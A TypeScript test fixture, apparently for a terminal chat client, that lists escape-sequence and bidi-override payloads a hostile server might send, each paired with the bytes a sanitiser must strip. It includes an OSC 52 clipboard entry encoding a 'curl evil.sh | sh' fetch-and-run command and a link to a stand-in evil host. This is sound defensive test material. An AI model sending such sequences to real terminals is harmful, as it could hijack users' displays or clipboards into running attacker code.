/*
The hostile-text corpus: what a malicious server or room member may send to take over a
terminal. Each entry has the raw text, and `forbidden`: byte sequences that must never reach the
terminal (none of them is one Ink writes itself), and `visible`: the harmless text around it
that must still show.
*/

export type HostilePayload = {
	readonly name: string;
	readonly text: string;
	readonly forbidden: readonly string[];
	readonly visible: string;
};

const esc = '\u001B';
const bel = '\u0007';
const st = `${esc}\\`;

function payload(name: string, attack: string, forbidden: string[] = [attack]): HostilePayload {
	const visible = `ok-${name}`;
	return {name, text: `${visible} ${attack} end`, forbidden, visible};
}

export const hostilePayloads: readonly HostilePayload[] = [
	// CSI, 7-bit and 8-bit.
	payload('csi-clear', `${esc}[2J${esc}[3J`, [`${esc}[3J`]),
	payload('csi-home-move', `${esc}[1;1H${esc}[7;13H`),
	payload('csi-8bit-move', '\u009B7;13H'),
	payload('csi-256-colour', `${esc}[38;5;196mRED`),
	payload('csi-truecolour-bg', `${esc}[48;2;255;0;0mBG`),
	payload('csi-8bit-colour', '\u009B38;5;46mGREEN', ['\u009B']),
	payload('csi-erase-line', `${esc}[2K${esc}[1G`, [`${esc}[2K${esc}[1G`]),
	payload('csi-scroll-region', `${esc}[5;10r`),
	payload('csi-device-report', `${esc}[6n${esc}[c`, [`${esc}[6n`]),
	payload('csi-private-modes', `${esc}[?1000h${esc}[?1049l`, [`${esc}[?1000h`]),
	payload('csi-insert-lines', `${esc}[5L${esc}[3M`),
	payload('csi-save-restore', `${esc}[s${esc}[u`, [`${esc}[u`]),
	// OSC: titles, clipboard, hyperlinks, colours; BEL, ST and 8-bit terminators.
	payload('osc-title-bel', `${esc}]0;PWNED-TITLE${bel}`, [`${esc}]0;`, 'PWNED-TITLE']),
	payload('osc-title-st', `${esc}]2;PWNED-TITLE-2${st}`, [`${esc}]2;`, 'PWNED-TITLE-2']),
	payload('osc-8bit', '\u009D0;PWNED-8BIT\u009C', ['\u009D', 'PWNED-8BIT']),
	payload('osc52-clipboard', `${esc}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${bel}`, [
		`${esc}]52`,
		'Y3VybCBldmlsLnNo',
	]),
	payload('osc8-link', `${esc}]8;;https://evil.example/${st}click${esc}]8;;${st}`, [
		`${esc}]8`,
		'evil.example',
	]),
	payload('osc-palette', `${esc}]4;1;rgb:ff/00/00${bel}`, [`${esc}]4;`]),
	payload('osc-unterminated', `${esc}]0;NEVER-ENDS`, [`${esc}]0;`, 'NEVER-ENDS']),
	// DCS, SOS, PM, APC, 7- and 8-bit.
	payload('dcs', `${esc}Pq#0;2;0;0;0#1~~~${st}`, [`${esc}P`, '#0;2;0;0;0']),
	payload('dcs-8bit', '\u0090+q544e\u009C', ['\u0090', '+q544e']),
	payload('sos', `${esc}XHIDDEN-SOS${st}`, [`${esc}X`, 'HIDDEN-SOS']),
	payload('pm', `${esc}^HIDDEN-PM${st}`, [`${esc}^`, 'HIDDEN-PM']),
	payload('apc', `${esc}_HIDDEN-APC${st}`, [`${esc}_`, 'HIDDEN-APC']),
	payload('apc-8bit', '\u009FHIDDEN-APC8\u009C', ['\u009F', 'HIDDEN-APC8']),
	// Other escapes and controls.
	payload('esc-reset', `${esc}c`),
	payload('esc-charset', `${esc}(0lqqk${esc}(B`, [`${esc}(0`]),
	payload('esc-index', `${esc}D${esc}M${esc}E`, [`${esc}D${esc}M`]),
	payload('c0-controls', '\u0001\u0002\u0008\u0008\u0008\u000B\u000C\u000E\u000F', [
		'\u0008\u0008',
		'\u000B\u000C',
	]),
	payload('bell', `${bel}${bel}${bel}`, [`${bel}${bel}`]),
	payload('carriage-return-overwrite', '\rFAKE-OVERWRITE', ['\rFAKE']),
	payload('del', '\u007F\u007F', ['\u007F']),
	payload('c1-controls', '\u0084\u0085\u008D\u0096', ['\u0084', '\u008D', '\u0096']),
	// Bidirectional overrides and isolates: reorder what follows.
	payload('bidi-rlo', '\u202Egnp.exe', ['\u202E']),
	payload('bidi-isolates', '\u2066\u2067\u2068abc\u2069', ['\u2066', '\u2067', '\u2068', '\u2069']),
	payload('bidi-embeddings', '\u202A\u202B\u202C\u202D', ['\u202A', '\u202B', '\u202D']),
];

/** An escape sequence split across two messages (two socket frames): neither half may act. */
export const splitPayloads = [`split-a ${esc}[38;5`, `;201msplit-b`] as const;
export const splitForbidden = `${esc}[38;5;201m`;

/** Names that carry attacks, or try to pass for the system. */
export const hostileNames: readonly HostilePayload[] = [
	{
		name: 'name-osc',
		text: `mallory${esc}]0;NAME-TITLE${bel}`,
		forbidden: [`${esc}]0;`, 'NAME-TITLE'],
		visible: 'mallory',
	},
	{
		name: 'name-csi',
		text: `eve${esc}[2K${esc}[31mX`,
		forbidden: [`${esc}[2K${esc}[31m`],
		visible: 'eve',
	},
	{name: 'name-bidi', text: `trudy\u202Eeci`, forbidden: ['\u202E'], visible: 'trudy'},
];

export const impersonatingNames = ['系统', 'system', '[系统]', 'System', '-!- system:'] as const;
